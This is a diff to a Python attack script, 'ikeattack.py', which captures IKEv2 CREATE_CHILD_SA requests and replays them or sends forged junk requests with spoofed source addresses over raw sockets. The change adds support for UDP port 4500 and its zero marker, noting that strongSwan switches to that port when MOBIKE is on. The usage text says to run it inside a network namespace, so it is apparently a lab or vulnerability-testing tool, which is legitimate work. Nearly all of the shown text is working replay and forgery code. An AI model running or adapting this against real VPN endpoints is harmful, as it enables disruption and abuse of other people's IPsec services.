@@ -12,7 +12,7 @@ ones.  IPv4, UDP port 500 (no NAT), raw sockets: run it inside a netns.
       for an unauthenticated peer).
   ikeattack.py capture IFACE FILE TIMEOUT_S
       wait on IFACE for the first CREATE_CHILD_SA request to UDP port 500
-      and save it (addresses, ports, IKE message, in hex) to FILE.
+      or 4500 and save it (addresses, ports, IKE message, in hex) to FILE.
   ikeattack.py replay FILE COUNT
       send the captured request COUNT times, byte for byte, from its source.
   ikeattack.py junk FILE COUNT
@@ -114,7 +114,13 @@ def cmd_capture(iface, path, timeout):
         ihl = (ip[0] & 0xF) * 4
         sport, dport = struct.unpack("!HH", ip[ihl:ihl + 4])
         ike = ip[ihl + 8:]
-        if dport != 500 or len(ike) < 28:
+        # after IKE_SA_INIT strongSwan floats to 4500 whenever MOBIKE is on
+        # (even without a NAT): there IKE has a 4-byte zero marker, ESP not
+        if dport == 4500 and ike[:4] == b"\0\0\0\0":
+            ike = ike[4:]
+        elif dport != 500:
+            continue
+        if len(ike) < 28:
             continue
         if ike[18] == CREATE_CHILD_SA and ike[19] & F_INITIATOR and not ike[19] & 0x20:
             with open(path, "w") as f:
@@ -132,10 +138,14 @@ def load(path):
     return src, dst, int(sport), int(dport), bytes.fromhex(hexmsg)
 
 
+def udp_payload(dport, ike):
+    return b"\0\0\0\0" + ike if dport == 4500 else ike
+
+
 def cmd_replay(path, count):
     src, dst, sport, dport, msg = load(path)
     for i in range(count):
-        send_raw(src, dst, sport, dport, msg)
+        send_raw(src, dst, sport, dport, udp_payload(dport, msg))
         print("replayed the CREATE_CHILD_SA request (%d)" % (i + 1))
         time.sleep(0.3)
 
@@ -149,7 +159,7 @@ def cmd_junk(path, count):
         sk = payload(0, os.urandom(16 + 64 + 16))
         hdr = spis + struct.pack("!BBBBII", 46, 0x20, CREATE_CHILD_SA, msg[19], mid + 1 + i,
                                  28 + len(sk))
-        send_raw(src, dst, sport, dport, hdr + sk)
+        send_raw(src, dst, sport, dport, udp_payload(dport, hdr + sk))
         print("sent a forged CREATE_CHILD_SA request, message ID %d" % (mid + 1 + i))
         time.sleep(0.3)
 
